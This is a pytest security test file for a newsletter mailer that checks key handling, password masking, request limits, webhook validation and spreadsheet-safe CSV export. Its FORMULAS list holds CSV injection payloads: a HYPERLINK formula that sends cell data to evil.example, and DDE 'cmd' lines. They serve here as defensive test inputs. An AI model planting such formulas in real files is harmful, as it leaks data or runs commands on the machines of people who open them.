"""Issue 12: each defect found by probing as an attacker and a careless user, as a test.

Secrets (no forgeable default key, no password in any message, private files, ids never
reused), bounded tracker requests, spreadsheet-safe CSV, no traceback and nothing half-done,
and linear or bounded work on big inputs. The fuzz test is in test_fuzz.py.
"""

from __future__ import annotations

import csv
import json
import os
import socket
import stat
import subprocess
import sys
import threading
import time
from collections.abc import Iterable, Iterator
from pathlib import Path
from typing import Any

import pytest
from conftest import sqlite_only
from helpers import assert_one_error_line, free_port, mailer, running
from sqlalchemy import Engine, func, select

from mailer import db, segments, subscribers
from mailer.billing.testing import signature
from mailer.billing.webhook import handle_stripe
from mailer.cli import main
from mailer.config import DEV_SECRET_KEY, MIN_KEY_BYTES, load_settings
from mailer.db.models import SubscriberRow, TrackingEventRow, utcnow
from mailer.errors import ConfigError, InputError, PostError, SegmentError
from mailer.files import replacing
from mailer.posts import parse_post
from mailer.subscribers import import_csv
from mailer.subscribers.csvfile import SafeWriter, neutralised, restored
from mailer.tokens import Signer
from mailer.tracking import app as tracker_app
from mailer.tracking.app import create_app
from mailer.tracking.http import MAX_HEADER_BYTES
from mailer.tracking.ingest import MemoryBuffer

GOOD_KEY = "k" * MIN_KEY_BYTES
PASSWORD = "hunter2-secret"
WEBHOOK_SECRET = "whsec_security_test_0123456789"
POST = "---\ntitle: Harbour\n---\nThe boats came in.\n"


def prod(**env: str) -> dict[str, str]:
    """A production environment (``mailer()`` drops the tests' MAILER_ENV=dev)."""
    return {"MAILER_ENV": "production", **env}


# 1. Secrets


def test_the_built_in_or_a_short_key_is_refused_outside_dev() -> None:
    for key in (DEV_SECRET_KEY, "s" * (MIN_KEY_BYTES - 1), f"{GOOD_KEY},{DEV_SECRET_KEY}"):
        with pytest.raises(ConfigError) as caught:
            load_settings({"MAILER_ENV": "production", "MAILER_SECRET_KEY": key}, env_file=None)
        message = str(caught.value)
        assert message.startswith("MAILER_SECRET_KEY: ") and "`mailer secret`" in message
        assert key.split(",")[-1] not in message  # never the key itself
    with pytest.raises(ConfigError, match="MAILER_SECRET_KEY"):
        load_settings({}, env_file=None)  # production is the default
    # Bytes, not characters: sixteen 2-byte characters are 32 bytes.
    assert load_settings({"MAILER_SECRET_KEY": "é" * 16}, env_file=None).secret_keys == ("é" * 16,)
    dev = load_settings({"MAILER_ENV": "dev"}, env_file=None)
    assert dev.secret_keys == (DEV_SECRET_KEY,)


@pytest.mark.subprocess
@pytest.mark.parametrize(
    "command",
    [
        [sys.executable, "-m", "mailer", "tracker", "serve", "--port", "0"],
        [sys.executable, "-m", "mailer", "send", "some-post"],
        [sys.executable, "-m", "mailer", "posts", "add", "post.md"],
        [sys.executable, "-m", "celery", "-A", "worker.app", "worker"],
        [sys.executable, "-m", "celery", "-A", "worker.app", "beat"],
    ],
    ids=["tracker", "send", "posts-add", "worker", "beat"],
)
def test_every_process_refuses_the_built_in_key(command: list[str], tmp_path: Path) -> None:
    (tmp_path / "post.md").write_text(POST)
    clean = {k: v for k, v in os.environ.items() if not k.startswith("MAILER_")}
    done = subprocess.run(
        command, cwd=tmp_path, env=clean, capture_output=True, text=True, timeout=60
    )
    assert done.returncode == 1
    assert done.stderr.startswith("error: MAILER_SECRET_KEY: the built-in development key")
    assert done.stderr.count("\n") == 1 and "Traceback" not in done.stderr
    assert "`mailer secret` prints a new random key" in done.stderr


@pytest.mark.subprocess
@sqlite_only
def test_mailer_secret_prints_a_new_key_that_is_accepted(tmp_path: Path, db_url: str) -> None:
    first = mailer(tmp_path, "secret", **prod(MAILER_SECRET_KEY="broken"))  # needs no settings
    second = mailer(tmp_path, "secret")
    assert first.returncode == second.returncode == 0 and first.stderr == ""
    key = first.stdout.strip()
    assert first.stdout == key + "\n" and len(key.encode()) >= MIN_KEY_BYTES
    assert key != second.stdout.strip()
    upgraded = mailer(
        tmp_path, "db", "upgrade", **prod(MAILER_SECRET_KEY=key, MAILER_DATABASE_URL=db_url)
    )
    assert upgraded.returncode == 0, upgraded.stderr


@pytest.mark.subprocess
@pytest.mark.parametrize(
    ("name", "value"),
    [
        ("MAILER_DATABASE_URL", f"postgresql://u:{PASSWORD}@db.example.com:99999x/news"),
        ("MAILER_DATABASE_URL", f"mysql://u:{PASSWORD}@db.example.com/news"),
        ("MAILER_BROKER_URL", f"redis://:{PASSWORD}@"),
        ("MAILER_BROKER_URL", f"amqp://u:{PASSWORD}@mq.example.com//"),
        ("MAILER_SMTP_URL", f"smtp://u:{PASSWORD}@mail.example.com:port"),
        ("MAILER_SECRET_KEY", PASSWORD),
        ("MAILER_STRIPE_WEBHOOK_SECRET", f"whsec {PASSWORD}"),
        ("MAILER_METRICS_TOKEN", f"a {PASSWORD}"),
    ],
)
def test_a_bad_setting_never_shows_its_password(name: str, value: str, tmp_path: Path) -> None:
    done = mailer(tmp_path, "subscribers", "show", "a@example.com", **{name: value})
    assert_one_error_line(done, f"error: {name}: ")
    assert PASSWORD not in done.stderr


@pytest.mark.subprocess
def test_passwords_are_masked_in_reprs_errors_and_doctor_json(tmp_path: Path) -> None:
    port = free_port()
    env = {
        "MAILER_DATABASE_URL": f"postgresql://postgres:{PASSWORD}@127.0.0.1:{port}/x",
        "MAILER_BROKER_URL": f"redis://:{PASSWORD}@127.0.0.1:{port}/1",
        "MAILER_SMTP_URL": f"smtp://u:{PASSWORD}@127.0.0.1:{port}",
        "MAILER_STRIPE_WEBHOOK_SECRET": f"whsec_{PASSWORD}",
        "MAILER_METRICS_TOKEN": PASSWORD,
        "MAILER_SECRET_KEY": f"{PASSWORD}-{GOOD_KEY}",
    }
    settings = load_settings({**env, "MAILER_ENV": "production"}, env_file=None)
    assert PASSWORD not in repr(settings) and "postgres:***@" in repr(settings)
    shown = mailer(tmp_path, "subscribers", "show", "a@example.com", **env)
    assert_one_error_line(shown, "cannot connect to database at postgresql+psycopg://postgres:***@")
    assert PASSWORD not in shown.stderr
    doctor = mailer(tmp_path, "doctor", "--json", **env)
    assert doctor.returncode == 1 and PASSWORD not in doctor.stdout + doctor.stderr
    checks = {c["name"]: c for c in json.loads(doctor.stdout)["checks"]}
    assert not checks["database"]["ok"] and not checks["broker"]["ok"]


def _mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def test_the_sqlite_database_and_its_wal_and_shm_are_owner_only(tmp_path: Path) -> None:
    path = tmp_path / "var" / "mailer.db"
    url = f"sqlite:///{path}"
    db.upgrade(url)
    engine = db.connect(url)
    with engine.connect() as conn:  # while a connection is open, the -wal and -shm exist
        conn.exec_driver_sql("CREATE TABLE t (x)")
        conn.commit()
        side = [path.with_name(path.name + s) for s in ("-wal", "-shm")]
        assert all(p.exists() for p in side)
        assert {p.name: _mode(p) for p in (path, *side)} == {p.name: 0o600 for p in (path, *side)}
    engine.dispose()
    # A database made by an earlier version is made owner-only when next opened.
    path.chmod(0o644)
    db.connect(url).dispose()
    assert _mode(path) == 0o600


def test_files_the_cli_writes_with_reader_data_are_owner_only(
    engine: Engine, tmp_path: Path
) -> None:
    source = tmp_path / "in.csv"
    source.write_text("email\nann@example.com\nnot-an-address\n")
    result = import_csv(engine, source, rejects=tmp_path / "rejects.csv")
    assert result.rejects_file is not None and _mode(result.rejects_file) == 0o600
    out = tmp_path / "export.csv"
    with replacing(out, "--out") as file, db.session(engine) as s:
        subscribers.export_csv(s, file)
    assert _mode(out) == 0o600


def test_an_erased_readers_id_is_never_given_again(engine: Engine) -> None:
    with db.session(engine) as s:
        subscribers.add(s, "ann@example.com")
        bob = subscribers.add(s, "bob@example.com")
    with db.session(engine) as s:
        subscribers.erase(s, "bob@example.com")
    with db.session(engine) as s:
        cy = subscribers.add(s, "cy@example.com")
    assert cy.id > bob.id


def test_the_migration_keeps_ids_and_never_reuses_an_erased_one(tmp_path: Path) -> None:
    """0005 rebuilds SQLite's subscribers with AUTOINCREMENT; the erased reader with the
    highest id left only anonymous tracking events behind, and their id stays taken."""
    from alembic import command

    url = f"sqlite:///{tmp_path / 'old.db'}"
    engine = db.connect(url)
    with engine.connect() as conn:
        config = db._config()
        config.attributes["connection"] = conn
        command.upgrade(config, "0003")
        conn.commit()
    with db.session(engine) as s:
        for email in ("ann@example.com", "bob@example.com"):
            s.add(SubscriberRow(email=email, email_key=email, domain="example.com"))
        s.add(TrackingEventRow(kind="open", send_id=1, subscriber_id=7, at=utcnow()))
    db.upgrade(url)
    with db.session(engine) as s:
        assert s.scalars(select(SubscriberRow.id).order_by(SubscriberRow.id)).all() == [1, 2]
        assert subscribers.add(s, "cy@example.com").id == 8
    engine.dispose()


# 2. Bounded requests


def _raw(port: int, request: bytes, body_chunks: Iterable[bytes] = ()) -> bytes:
    """Send ``request`` (and then the chunks, while the server reads), return the answer."""
    with socket.create_connection(("127.0.0.1", port), timeout=10) as conn:
        conn.sendall(request)
        try:
            for chunk in body_chunks:
                conn.sendall(chunk)
        except OSError:  # the server answered and closed while we were still sending
            pass
        answer = b""
        try:  # the status line and headers are enough
            while b"\r\n\r\n" not in answer and (chunk := conn.recv(65536)):
                answer += chunk
        except ConnectionResetError:
            pass
    return answer


@pytest.fixture
def webhook_app(engine: Engine) -> Iterator[tuple[Any, list[bytes], threading.Event]]:
    """A tracker whose webhook records the payloads it gets and waits for ``release``."""
    received: list[bytes] = []
    release = threading.Event()

    def webhook(payload: bytes, signature: str | None) -> int:
        received.append(payload)
        release.wait(10)
        return 200

    release.set()
    app = create_app(
        engine=engine,
        signer=Signer([GOOD_KEY]),
        site_url="https://news.example.com",
        buffer=MemoryBuffer(),
        flush_interval=None,
        stripe_webhook=webhook,
        max_body=1024 * 1024,
    )
    yield app, received, release


def _port(client: Any) -> int:
    return int(str(client.base_url).rsplit(":", 1)[1])


def test_a_body_over_the_limit_is_refused_before_it_is_read(webhook_app: Any) -> None:
    app, received, _ = webhook_app
    with running(app) as client:
        port = _port(client)
        # 300 MB announced and never sent: the answer comes at once.
        started = time.monotonic()
        answer = _raw(
            port,
            b"POST /webhooks/stripe HTTP/1.1\r\nHost: t\r\nContent-Length: 314572800\r\n\r\n",
        )
        assert answer.startswith(b"HTTP/1.1 413 ") and time.monotonic() - started < 5
        # Chunked, no length announced: cut off just past the limit.
        chunks = (b"10000\r\n" + b"x" * 0x10000 + b"\r\n" for _ in range(48))  # 3 MB
        answer = _raw(
            port,
            b"POST /webhooks/stripe HTTP/1.1\r\nHost: t\r\nTransfer-Encoding: chunked\r\n\r\n",
            chunks,
        )
        assert answer.startswith(b"HTTP/1.1 413 ")
        assert client.post("/u/x", content=b"x" * (2 * 1024 * 1024)).status_code == 413
        assert received == []
        ok = client.post("/webhooks/stripe", content=b"{}" + b" " * 500_000)
        assert ok.status_code == 200 and len(received[0]) == 500_002


def test_headers_over_the_cap_are_refused(webhook_app: Any) -> None:
    app, _, _ = webhook_app
    with running(app) as client:
        port = _port(client)
        fine = b"GET /healthz HTTP/1.1\r\nHost: t\r\nX-A: " + b"a" * 8000 + b"\r\n\r\n"
        assert _raw(port, fine + b"").startswith(b"HTTP/1.1 200 ")
        header = b"X-A: " + b"a" * 4000 + b"\r\n"
        big = b"GET /healthz HTTP/1.1\r\nHost: t\r\n" + header * (MAX_HEADER_BYTES // 4000 + 1)
        answer = _raw(port, big + b"\r\n")
        assert answer.startswith(b"HTTP/1.1 431 ")
        # Sent a piece at a time, without ever ending the headers.
        pieces = (b"X-B: " + b"b" * 1000 + b"\r\n" for _ in range(10_000))
        answer = _raw(port, b"GET /healthz HTTP/1.1\r\nHost: t\r\n", pieces)
        assert answer.startswith(b"HTTP/1.1 431 ")
        assert client.get("/healthz").status_code == 200  # and the server serves on


def test_concurrent_webhooks_are_limited(webhook_app: Any) -> None:
    app, received, release = webhook_app
    release.clear()
    with running(app) as client:
        port = _port(client)
        request = b"POST /webhooks/stripe HTTP/1.1\r\nHost: t\r\nContent-Length: 2\r\n\r\n{}"
        held = [
            threading.Thread(target=_raw, args=(port, request))
            for _ in range(tracker_app.WEBHOOK_CONCURRENCY)
        ]
        for thread in held:
            thread.start()
        deadline = time.monotonic() + 5
        while len(received) < tracker_app.WEBHOOK_CONCURRENCY and time.monotonic() < deadline:
            time.sleep(0.01)
        busy = client.post("/webhooks/stripe", content=b"{}")
        assert busy.status_code == 503 and busy.headers["retry-after"]
        release.set()
        for thread in held:
            thread.join(10)
        assert client.post("/webhooks/stripe", content=b"{}").status_code == 200
    assert len(received) == tracker_app.WEBHOOK_CONCURRENCY + 1


def _signed(payload: bytes, at: int) -> str:
    return signature(payload, WEBHOOK_SECRET, at=at)


def _stripe(engine: Engine, payload: bytes, header: str) -> int:
    return handle_stripe(
        engine,
        payload,
        header,
        secret=WEBHOOK_SECRET,
        signer=Signer([GOOD_KEY]),
        attribution_days=30,
    )


def test_a_signed_payload_that_is_not_an_object_is_a_bad_request(engine: Engine) -> None:
    now = int(time.time())
    for payload in (b"[]", b'"x"', b"null", b"1", b"[{}]", b"NaN", b'{"id": "evt_1"}'):
        assert _stripe(engine, payload, _signed(payload, now)) == 400, payload
    event = {"id": "evt_1", "type": "customer.subscription.created", "data": []}
    payload = json.dumps(event).encode()
    assert _stripe(engine, payload, _signed(payload, now)) == 400
    huge_trial = {
        "id": "evt_2",
        "type": "customer.subscription.created",
        "data": {"object": {"status": "trialing", "trial_end": 10**30, "customer": "cus_1"}},
    }
    payload = json.dumps(huge_trial).encode()
    assert _stripe(engine, payload, _signed(payload, now)) == 200  # no such reader: ignored


def test_a_signature_from_the_future_is_refused(engine: Engine) -> None:
    payload = json.dumps({"id": "evt_1", "type": "invoice.paid", "data": {"object": {}}}).encode()
    now = int(time.time())
    assert _stripe(engine, payload, _signed(payload, now + 3600)) == 400
    assert _stripe(engine, payload, _signed(payload, now + 301)) == 400
    assert _stripe(engine, payload, _signed(payload, now + 30)) == 200  # clocks differ a little


# 3. Spreadsheet-safe files

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
    "''=twice",
    "'plain apostrophe",
    "-",
    "a=b",
]


def test_neutralised_cells_read_back_to_the_original() -> None:
    for cell in [*FORMULAS, "", "plain", "'", "''"]:
        safe = neutralised(cell)
        assert restored(safe) == cell
        assert safe[:1] not in ("=", "+", "-", "@", "\t", "\r")


def test_export_and_rejects_are_spreadsheet_safe_and_round_trip(
    engine: Engine, tmp_path: Path
) -> None:
    source = tmp_path / "in.csv"  # neutralised, as mailer's own exports are
    with source.open("w", encoding="utf-8", newline="") as f:
        writer = SafeWriter(f)
        writer.writerow(["email", "name", "city", "=evil header"])
        for n, formula in enumerate(FORMULAS):
            writer.writerow([f"r{n}@example.com", formula, formula, "x"])
        writer.writerow(["=not an address", "@x", "+y", "-z"])
    result = import_csv(engine, source, rejects=tmp_path / "rejects.csv")
    assert (result.created, result.rejected) == (len(FORMULAS), 1)
    out = tmp_path / "export.csv"
    with db.session(engine) as s, out.open("w", encoding="utf-8", newline="") as f:
        subscribers.export_csv(s, f)
    for written in (out, tmp_path / "rejects.csv"):
        with written.open(encoding="utf-8", newline="") as f:
            cells = [cell for row in csv.reader(f) for cell in row]
        dangerous = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
        assert dangerous == [], written
    with db.session(engine) as s:
        names = {r.email: r.name for r in s.scalars(select(SubscriberRow))}
        attributes = {r.email: r.attributes for r in s.scalars(select(SubscriberRow))}
    assert names == {f"r{n}@example.com": f.strip() or None for n, f in enumerate(FORMULAS)}
    assert attributes["r0@example.com"]["=evil header"] == "x"
    # export -> import changes nothing
    with db.session(engine) as s:
        before = s.execute(
            select(SubscriberRow.email, SubscriberRow.name, SubscriberRow.attributes)
        ).all()
    again = import_csv(engine, out)
    assert (again.updated, again.unchanged, again.rejected) == (len(FORMULAS), len(FORMULAS), 0)
    with db.session(engine) as s:
        after = s.execute(
            select(SubscriberRow.email, SubscriberRow.name, SubscriberRow.attributes)
        ).all()
    assert after == before
    # the rejected row reads back as it was written
    with (tmp_path / "rejects.csv").open(encoding="utf-8", newline="") as f:
        header, row = list(csv.reader(f))
    assert [restored(c) for c in header] == [
        "line",
        "reason",
        "email",
        "name",
        "city",
        "=evil header",
    ]
    assert [restored(c) for c in row[2:]] == ["=not an address", "@x", "+y", "-z"]


# 4. No traceback, nothing half-done


def test_an_unexpected_error_is_one_line_and_the_traceback_is_on_request(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    """A bug stands in for any: the real ones this issue found are fixed below."""
    post = tmp_path / "post.md"
    post.write_text(POST)

    def bug(path: Path, max_bytes: int) -> None:
        raise RuntimeError(f"boom at postgresql://u:{PASSWORD}@db/x\n" + "SELECT 1 " * 10_000)

    monkeypatch.setattr("mailer.posts.parse_post", bug)
    monkeypatch.setattr(sys, "argv", ["mailer", "posts", "add", str(post)])
    for debug in ("0", "1"):
        monkeypatch.setenv("MAILER_DEBUG", debug)
        with pytest.raises(SystemExit) as exited:
            main()
        assert exited.value.code == 1
        out, err = capsys.readouterr()
        lines = err.splitlines()
        assert out == "" and PASSWORD not in err
        assert lines[-1].startswith("error: unexpected RuntimeError: boom at postgresql://u:***@")
        assert len(lines[-1]) < 400
        if debug == "0":
            assert len(lines) == 1 and "MAILER_DEBUG=1" in lines[0]
        else:
            assert lines[0] == "Traceback (most recent call last):"


@pytest.mark.subprocess
@sqlite_only
def test_bad_output_paths_fail_before_the_database_changes(db_url: str, tmp_path: Path) -> None:
    env = {"MAILER_DATABASE_URL": db_url}
    assert mailer(tmp_path, "db", "upgrade", **env).returncode == 0
    (tmp_path / "readers.csv").write_text("email\nann@example.com\nbad\n")
    (tmp_path / "a-directory").mkdir()
    done = mailer(
        tmp_path, "subscribers", "import", "readers.csv", "--rejects", "a-directory", **env
    )
    assert_one_error_line(done, "a-directory", "is a directory")
    done = mailer(tmp_path, "subscribers", "export", "--out", "a-directory", **env)
    assert_one_error_line(done, "a-directory", "is a directory")
    engine = db.connect(db_url)
    with db.session(engine) as s:
        assert s.scalar(select(func.count()).select_from(SubscriberRow)) == 0
    engine.dispose()
    bad_port = mailer(tmp_path, "db", "upgrade", MAILER_DATABASE_URL="postgresql://u@h:5432x/db")
    assert_one_error_line(bad_port, "MAILER_DATABASE_URL: has a bad port")


def test_a_yaml_list_as_a_front_matter_key_is_a_clear_error(tmp_path: Path) -> None:
    for front in ("[a, b]: 1", "{a: 1}: 2", "? [x]\n: y"):
        path = tmp_path / "post.md"
        path.write_text(f"---\ntitle: x\n{front}\n---\nbody\n")
        with pytest.raises(PostError, match="front matter: broken YAML at line 3: a field name"):
            parse_post(path)


def test_segment_expressions_are_bounded(engine: Engine) -> None:
    with db.session(engine) as s:
        # At the limit, both databases answer.
        most = " OR ".join(["tier:free"] * segments.MAX_TERMS)
        assert segments.count(s, most) == 0
        nested = " AND ".join(
            f"(tag:a{n} OR NOT domain:d{n}.com)" for n in range(segments.MAX_TERMS // 2)
        )
        assert segments.count(s, nested) == 0
        with pytest.raises(SegmentError, match=f"more than {segments.MAX_TERMS} terms"):
            segments.count(s, " OR ".join(["tag:x"] * 1000))  # 9,000 characters
        values = "tag:" + ",".join(f"t{n}" for n in range(segments.MAX_VALUES + 1))
        with pytest.raises(SegmentError, match=f"more than {segments.MAX_VALUES:,} values"):
            segments.count(s, values)
        started = time.monotonic()
        with pytest.raises(SegmentError, match=f"longer than {segments.MAX_LENGTH:,} characters"):
            segments.count(s, "tier:free OR " * 100_000)
        assert time.monotonic() - started < 1
        # Saved segments count where they are used.
        half = " OR ".join(["tier:paid"] * (segments.MAX_TERMS // 2 + 1))
        segments.save(s, "half", half)
        with pytest.raises(SegmentError, match="terms"):
            segments.count(s, "@half OR @half")


# 5. Linear or bounded work


def test_a_huge_csv_header_is_read_in_linear_time(engine: Engine, tmp_path: Path) -> None:
    """100,000 columns took 240 s (a quadratic duplicate check); linear, well under a second."""
    columns = ["email", *(f"c{n}" for n in range(100_000))]
    path = tmp_path / "wide.csv"
    path.write_text(",".join(columns) + "\nann@example.com," + ",".join(["v"] * 100_000) + "\n")
    started = time.monotonic()
    result = import_csv(engine, path)
    assert result.created == 1 and time.monotonic() - started < 20
    dupes = tmp_path / "dupes.csv"
    dupes.write_text(",".join([*columns, "c99999"]) + "\n")
    with pytest.raises(InputError, match="column 'c99999' appears twice"):
        import_csv(engine, dupes)


def test_an_oversize_field_over_many_lines_rejects_one_row_and_the_reader_keeps_its_place(
    engine: Engine, tmp_path: Path
) -> None:
    bio = "\n".join(["a line of a very long biography, quoted, over many lines"] * 4000)
    assert len(bio) > csv.field_size_limit()
    path = tmp_path / "two.csv"
    path.write_text(f'email,bio\nann@example.com,"{bio}"\nbob@example.com,short\n')
    result = import_csv(engine, path, rejects=tmp_path / "rejects.csv")
    assert (result.rows, result.created, result.rejected) == (2, 1, 1)
    with (tmp_path / "rejects.csv").open(encoding="utf-8", newline="") as f:
        [_, (line, reason, *_)] = list(csv.reader(f))
    assert line == "2" and "field larger than field limit" in reason
    with db.session(engine) as s:
        assert s.scalars(select(SubscriberRow.email)).all() == ["bob@example.com"]


@pytest.mark.subprocess
@sqlite_only
def test_a_post_over_the_size_limit_is_refused_at_once(tmp_path: Path, db_url: str) -> None:
    path = tmp_path / "huge.md"
    path.write_text(POST + "word " * (2 * 1024 * 1024 // 5))
    started = time.monotonic()
    with pytest.raises(PostError, match="larger than 2 MB"):
        parse_post(path)
    assert time.monotonic() - started < 1
    small = tmp_path / "small.md"
    small.write_text(POST + "word " * 400)
    done = mailer(
        tmp_path, "posts", "add", "small.md", MAILER_DATABASE_URL=db_url, MAILER_POST_MAX_SIZE="1KB"
    )
    assert_one_error_line(done, "small.md", "larger than 1 KB", "MAILER_POST_MAX_SIZE")
